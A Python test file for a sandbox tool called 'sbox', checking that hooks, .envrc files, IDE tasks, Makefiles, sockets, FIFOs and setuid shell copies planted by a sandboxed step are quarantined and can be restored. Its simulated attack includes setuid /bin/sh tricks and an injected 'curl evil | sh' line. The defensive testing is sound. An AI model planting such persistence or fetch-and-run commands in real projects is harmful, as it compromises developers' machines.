"""The persistence guard on every backend: what a sandboxed step plants for the host to run (git
hooks under husky's hooksPath, .envrc, IDE tasks, a Makefile, sockets, FIFOs, setuid files) is
moved to sbox's quarantine after the step, and can be restored; what the project already had
and the sandbox left alone stays put."""
from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

from tests.support.trust import trust

from .helpers import PY, Runs, project

# Inside: plant everything, print what the kernel allowed.
PLANT = r"""
import os, socket, shutil, sys
hook, canary = sys.argv[1], sys.argv[2]
os.umask(0)
os.makedirs(os.path.dirname(hook), exist_ok=True)
with open(hook, "w") as f:
    f.write("#!/bin/sh\necho planted > " + canary + "\n")
os.chmod(hook, 0o755)
open(".envrc", "w").write("export PLANTED=1\n")
os.makedirs(".vscode", exist_ok=True)
open(".vscode/tasks.json", "w").write('{"version": "2.0.0", "tasks": []}\n')
open("Makefile", "w").write("all:\n\ttouch planted\n")
os.mkfifo("planted.fifo")
os.makedirs("deep/er", exist_ok=True)
s = socket.socket(socket.AF_UNIX)
s.bind("deep/er/planted.sock")
s.close()
# setuid through chmod(2) (a seccomp filter refusing S_ISUID in chmod would stop this one) ...
shutil.copy("/bin/sh", "node_modules/sh-chmod")
try:
    os.chmod("node_modules/sh-chmod", 0o4755)
    print("CHMOD-SETUID ok")
except OSError as e:
    print("CHMOD-SETUID refused", e.strerror)
# ... and through open(2)'s mode with O_CREAT, which a chmod filter does not see. Left empty: a
# write by a process without CAP_FSETID (every sandboxed one) clears the setuid bit again.
try:
    os.close(os.open("node_modules/sh-open", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o4755))
    print("OPEN-MODE", oct(os.stat("node_modules/sh-open").st_mode & 0o7777))
except OSError as e:
    print("OPEN-SETUID refused", e.strerror)
"""

HOOK = ".husky/_/pre-commit"
PLANTED = [HOOK, ".envrc", ".vscode/tasks.json", "Makefile", "planted.fifo", "deep/er/planted.sock"]
SETUID = ["node_modules/sh-chmod", "node_modules/sh-open"]


def git(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@example.invalid", GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1")
    return subprocess.run(["git", *args], cwd=root, env=env, capture_output=True, text=True, check=True)


def husky_project(tmp_path: Path) -> Path:
    root = project(tmp_path)
    trust(root / "sbox.yaml")
    git(root, "init", "-q")
    git(root, "config", "core.hooksPath", ".husky/_")
    (root / "node_modules").mkdir()
    return root


def quarantines(state: Path) -> list[dict[str, object]]:
    base = state / "quarantine"
    return [json.loads((d / "manifest.json").read_text()) for d in sorted(base.iterdir())] if base.exists() else []


def test_what_the_sandbox_plants_for_the_host_is_quarantined_and_restorable(runs: Runs, tmp_path: Path,
                                                                           sbox_bin: str) -> None:
    root = husky_project(tmp_path)
    canary = tmp_path / "canary"
    state = Path(os.environ["SBOX_STATE_DIR"])
    result = runs.run(root, PY, "-c", PLANT, HOOK, str(canary))
    assert result.returncode == 0, result.stderr
    # The sandbox did plant them (the attack ran) ...
    # The seccomp filter refuses both setuid routes (chmod(2) and open(2)'s mode); where it lets one
    # through, the guard must catch the file.
    opened = "OPEN-MODE 0o4755" in result.stdout
    assert opened or "OPEN-SETUID refused" in result.stdout or os.geteuid() != 0, result.stdout
    # ... and none is left in the project.
    refused = "CHMOD-SETUID refused" in result.stdout  # a seccomp filter on chmod(2) stopped that one
    left = [p for p in PLANTED + SETUID if os.path.lexists(root / p)
            and not (refused and p == SETUID[0]) and not (not opened and p == SETUID[1])]
    assert not left, f"left in the project: {left}\n{result.stderr}"
    found = quarantines(state)
    assert len(found) == 1, found
    ident = str(found[0]["id"])
    files = state / "quarantine" / ident / "files"
    assert (files / HOOK).read_text().endswith(f"echo planted > {canary}\n")
    assert stat.S_ISFIFO(os.lstat(files / "planted.fifo").st_mode)
    assert stat.S_ISSOCK(os.lstat(files / "deep/er/planted.sock").st_mode)
    paths = {e["path"]: e for e in found[0]["entries"]}  # type: ignore[attr-defined]
    assert paths[HOOK]["what"] == "created" and paths[HOOK]["sha256"]
    assert f"sbox: quarantined {HOOK} (created by the sandbox); restore: sbox quarantine restore {ident} {HOOK}" \
        in result.stderr
    assert "the git hooks were not installed" in result.stderr and "npx husky" in result.stderr
    if os.geteuid() == 0:  # a root-run sbox (CI): the sandbox's setuid files would be root's
        # open(2)'s mode: whatever a seccomp filter on chmod does, this one is made setuid.
        if opened:
            st = os.lstat(files / "node_modules/sh-open")
            assert st.st_mode & stat.S_ISUID and st.st_uid == 0
            assert paths["node_modules/sh-open"]["why"] == "setuid"
        else:
            assert not (root / SETUID[1]).exists()
        # chmod(2): quarantined if the kernel let it through, refused if a seccomp filter is in place.
        if "CHMOD-SETUID ok" in result.stdout:
            assert os.lstat(files / "node_modules/sh-chmod").st_mode & stat.S_ISUID
        else:
            assert refused and not os.lstat(root / SETUID[0]).st_mode & (stat.S_ISUID | stat.S_ISGID)
    assert list((state / "denials").glob(f"*-quarantine.json")), "no JSON record beside the denial log"

    # The planted hook does not run at the host's next `git commit` ...
    git(root, "commit", "-q", "--allow-empty", "-m", "after sbox")
    assert not canary.exists()
    # ... while the same hook planted by hand (the control) does.
    (root / ".husky/_").mkdir(parents=True)
    (root / HOOK).write_text((files / HOOK).read_text())
    (root / HOOK).chmod(0o755)
    git(root, "commit", "-q", "--allow-empty", "-m", "control")
    assert canary.read_text() == "planted\n"

    # Restore without PATH: refused, naming the .envrc, FIFO and socket, which come back only when named.
    refused = subprocess.run([sbox_bin, "quarantine", "restore", ident, "--force"], capture_output=True, text=True)
    assert refused.returncode == 1, refused.stderr
    for held in (".envrc (.envrc)", "planted.fifo (fifo)", "deep/er/planted.sock (socket)"):
        assert held in refused.stderr, refused.stderr
    assert (root / ".envrc").exists() is False
    # Everything `list` shows, named: refused over an existing file, done with --force (the existing
    # one moved aside).
    listed = subprocess.run([sbox_bin, "quarantine", "list"], capture_output=True, text=True).stdout.splitlines()
    start = next(i for i, line in enumerate(listed) if line.startswith(ident))
    named = [line[2:].split("  [")[0] for line in listed[start + 1:] if line.startswith("  ")]
    assert {HOOK.split("/")[0], ".envrc", ".vscode", "Makefile", "planted.fifo", "deep/er/planted.sock"} <= set(named)
    refused = subprocess.run([sbox_bin, "quarantine", "restore", ident, *named], capture_output=True, text=True)
    assert refused.returncode == 1 and ".husky" in refused.stderr
    assert (root / ".envrc").exists() is False
    done = subprocess.run([sbox_bin, "quarantine", "restore", ident, *named, "--force"], capture_output=True,
                          text=True)
    assert done.returncode == 0, done.stderr
    assert (root / ".envrc").read_text() == "export PLANTED=1\n"
    assert stat.S_ISFIFO(os.lstat(root / "planted.fifo").st_mode)
    assert (state / "quarantine" / ident / "displaced" / HOOK).exists()
    listed = subprocess.run([sbox_bin, "quarantine", "list"], capture_output=True, text=True)
    assert ident in listed.stdout and "(restored)" in listed.stdout


def test_what_the_project_had_and_the_user_edits_stays_put(runs: Runs, tmp_path: Path) -> None:
    root = husky_project(tmp_path)
    (root / "Makefile").write_text("all:\n\techo mine\n")
    (root / ".envrc").write_text("export MINE=1\n")
    (root / ".husky").mkdir()
    (root / ".husky/pre-commit").write_text("#!/bin/sh\nnpm test\n")
    os.mkfifo(root / "mine.fifo")
    (root / "package.json").write_text(json.dumps({"name": "p", "scripts": {"test": "echo ok"}}))
    if os.geteuid() == 0:
        (root / "node_modules/mine").write_bytes(b"#!/bin/sh\n")
        (root / "node_modules/mine").chmod(0o4755)
    kept = {p: os.lstat(root / p) for p in ("Makefile", ".husky/pre-commit", "mine.fifo")}
    state = Path(os.environ["SBOX_STATE_DIR"])
    # The sandbox builds something, edits .envrc and adds a package.json script.
    edit = ("import json; open('out.txt', 'w').write('built'); open('.envrc', 'a').write('curl evil | sh\\n');"
            "p = json.load(open('package.json')); p['scripts']['postinstall'] = 'node x.js';"
            "json.dump(p, open('package.json', 'w'))")
    result = runs.run(root, PY, "-c", edit)
    assert result.returncode == 0, result.stderr
    for p, st in kept.items():
        now = os.lstat(root / p)
        assert (now.st_ino, now.st_mtime_ns) == (st.st_ino, st.st_mtime_ns), p
    if os.geteuid() == 0:
        assert os.lstat(root / "node_modules/mine").st_mode & stat.S_ISUID
    assert (root / "out.txt").read_text() == "built"
    # The changed .envrc: the sandbox's version quarantined, the project's own back in place.
    assert (root / ".envrc").read_text() == "export MINE=1\n"
    (found,) = quarantines(state)
    assert (state / "quarantine" / str(found["id"]) / "files/.envrc").read_text().endswith("curl evil | sh\n")
    assert "sbox: quarantined .envrc (changed by the sandbox; the previous version is back)" in result.stderr
    assert "package.json script 'postinstall' was added by the sandbox" in result.stderr
    assert json.loads((root / "package.json").read_text())["scripts"]["postinstall"] == "node x.js"

    # The user edits on the host between runs; the next run leaves the edits alone.
    (root / "Makefile").write_text("all:\n\techo edited\n")
    (root / ".envrc").write_text("export EDITED=1\n")
    again = runs.run(root, PY, "-c", "open('out.txt', 'w').write('again')")
    assert again.returncode == 0 and "quarantined" not in again.stderr, again.stderr
    assert (root / "Makefile").read_text() == "all:\n\techo edited\n"
    assert (root / ".envrc").read_text() == "export EDITED=1\n"
    assert len(quarantines(state)) == 1
